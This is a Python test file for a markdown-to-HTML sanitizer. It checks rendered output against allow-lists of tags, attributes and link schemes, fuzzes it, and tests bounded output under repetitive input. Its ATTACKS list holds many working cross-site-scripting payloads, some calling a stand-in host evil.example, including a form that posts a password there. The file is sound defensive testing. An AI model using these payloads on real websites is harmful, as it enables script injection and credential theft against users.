"""Rich text: what is typed is kept and marked up, and nothing in it ever runs, loads or leads astray."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from lab.rules.records import MAX_BODY
from lab.web.markdown import ATTRIBUTES, REL, SCHEMES, TAGS, markdown

ATTACKS = (
    # Raw HTML.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<embed src=//evil.example/x.swf>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    '<div id="main" class="alert" style="color:red" onclick="alert(1)">x</div>',
    '<p id="main">x</p><p name="csrf_token">y</p>',
    "<xss onmouseover=alert(1) contenteditable>x</xss>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</div></main><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Links.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/logout)",
    "[x](https:evil)",
    "[x](http://)",
    '[x](https://a.example" onmouseover="alert(1))',
    "[x](https://a.example 'title\" onclick=alert(1) x=\"')",
    '[x](https://a.example "</a><script>alert(1)</script>")',
    "[x](https://a.example\njavascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: https://a.example '\"><script>alert(1)</script>'\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # Pictures.
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](https://a.example/x.png)',
    "![x](https://a.example/x.png \"onerror=alert(1)\")",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # Code.
    "```\"><script>alert(1)</script>\nx\n```",
    "``` js onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "~~~ \"id=main class=alert\nx\n~~~",
    # Lists, headings, quotes.
    "# <script>alert(1)</script> {#main .alert onclick=alert(1)}",
    "> <svg onload=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "99999999999. x",
    "1. <details open ontoggle=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "*[x](javascript:alert(1))*",
    "~~<s style=x>y</s>~~",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "\0<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
)  # fmt: skip


def is_harmless(html: str) -> BeautifulSoup:
    """Fail on anything that the list of what is allowed does not name; return the parsed text."""
    page = BeautifulSoup(html, "html.parser")
    for tag in page.find_all(True):
        assert tag.name in TAGS, tag
        allowed = ATTRIBUTES.get(tag.name, set()) | ({"rel"} if tag.name == "a" else set())
        assert set(tag.attrs) <= allowed, tag
        if tag.name == "a":
            href = str(tag.get("href", ""))
            assert re.match(r"(https?://|mailto:)[^/\s]", href, re.IGNORECASE), tag
            assert urlsplit(href).scheme in SCHEMES, tag
            assert " ".join(tag["rel"]) == REL
        if "start" in tag.attrs:
            assert str(tag["start"]).isdigit()
    return page


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_typed_runs_or_loads(attack: str) -> None:
    for text in (attack, f"Before {attack} after", f"> - {attack}", f"**{attack}**", f"[{attack}](https://a.example)"):
        is_harmless(str(markdown(text)))


PIECES = st.sampled_from(
    ["<", ">", '"', "'", "&", "[", "]", "(", ")", "!", "`", "*", "_", "~~", "\n", "\n\n", "> ", "- ", "1. ", "# ", "    ",
     "|", ":", "\\", "\t", "\0", "javascript:", "https://a.example", "data:text/html,", "<script>", "</script>", "<img ",
     "onerror=", "style=", "<!--", "-->", "<svg ", "&#106;", "&colon;", "x", " "]
)  # fmt: skip


@given(st.one_of(st.text(), st.lists(PIECES, max_size=30).map("".join)))
def test_any_text_at_all_is_harmless(text: str) -> None:
    is_harmless(str(markdown(text)))


@given(st.text(alphabet=st.characters(categories=["L", "N"]), min_size=1), st.integers(1, 5))
def test_words_are_kept_as_typed(words: str, below: int) -> None:
    assert words in BeautifulSoup(str(markdown(words, below)), "html.parser").text


def test_what_people_write_is_marked_up() -> None:
    text = (
        "# Field test\n\nIt went **well**, *mostly*:\nno ~~big~~ trouble.\n\n- one\n- two\n\n3. third\n\n> said Ana\n\n"
        "[The map](https://maps.example/?a=1&b=2), <ana@team.example>, `code`\n\n---\n"
    )
    page = is_harmless(str(markdown(text)))
    assert page.h3.text == "Field test" and page.strong.text == "well" and page.em.text == "mostly"
    assert page.s.text == "big" and page.find("br"), "a line break that was typed survives"
    assert [item.text for item in page.ul.find_all("li")] == ["one", "two"] and page.ol["start"] == "3"
    assert page.blockquote.text.strip() == "said Ana" and page.code.text == "code" and page.hr
    assert [link["href"] for link in page.find_all("a")] == [
        "https://maps.example/?a=1&b=2", "mailto:ana@team.example",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    ["    Indented by hand", "Results\n-------", "Results\n=======", "[note]: https://a.example", "a | b", "5 &lt; 6",
     "<b>not bold</b>", "![a map](https://a.example/map.png)", "2 < 3 and 4 > 1", "snake_case_word", "[x](/awards)"],
)  # fmt: skip
def test_what_was_never_meant_as_markup_loses_nothing(text: str) -> None:
    page = is_harmless(str(markdown(text)))
    assert not page.find(["pre", "h1", "h2", "h3", "h4", "img", "b"])
    for word in re.findall(r"\w+", text.replace("https://a.example/map.png", "")):
        assert word in str(page)


@pytest.mark.parametrize(("below", "levels"), [(1, ["h2", "h3", "h6"]), (3, ["h4", "h5", "h6"]), (5, ["h6"] * 3)])
def test_headings_begin_below_the_heading_of_the_page(below: int, levels: list[str]) -> None:
    page = is_harmless(str(markdown("# one\n## two\n###### six", below)))
    assert [tag.name for tag in page.find_all(re.compile("^h[1-6]$"))] == levels


@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r"])
def test_line_ends_of_every_system(line_end: str) -> None:
    assert str(markdown(f"a{line_end}b")) == "<p>a<br>\nb</p>\n"


@pytest.mark.parametrize("text", [None, "", "   ", "\n\n"])
def test_nothing_typed_is_nothing_shown(text: str | None) -> None:
    assert not str(markdown(text)).strip()


@pytest.mark.parametrize(
    "unit", ["[", "![", "*", "_", "> ", "- ", "1. ", "`", "[a](", "<", "|", "~~", "**a *b ", "(", "#"]
)
def test_hostile_repetition_is_answered_and_stays_bounded(unit: str) -> None:
    for length in (MAX_BODY, 100_000):
        html = str(markdown((unit * length)[:length]))
        is_harmless(html)
        deepest = max(len(list(tag.parents)) for tag in BeautifulSoup(html, "html.parser").find_all(True))
        assert deepest < 40, "no tower of tags"
        assert len(html) < 40 * length


def test_a_text_that_is_too_long_to_mark_up_is_shown_as_typed() -> None:
    page = is_harmless(str(markdown("**bold** <b>\n" * 5000)))
    assert "**bold** <b>" in page.text and page.find("br") and not page.find("strong")
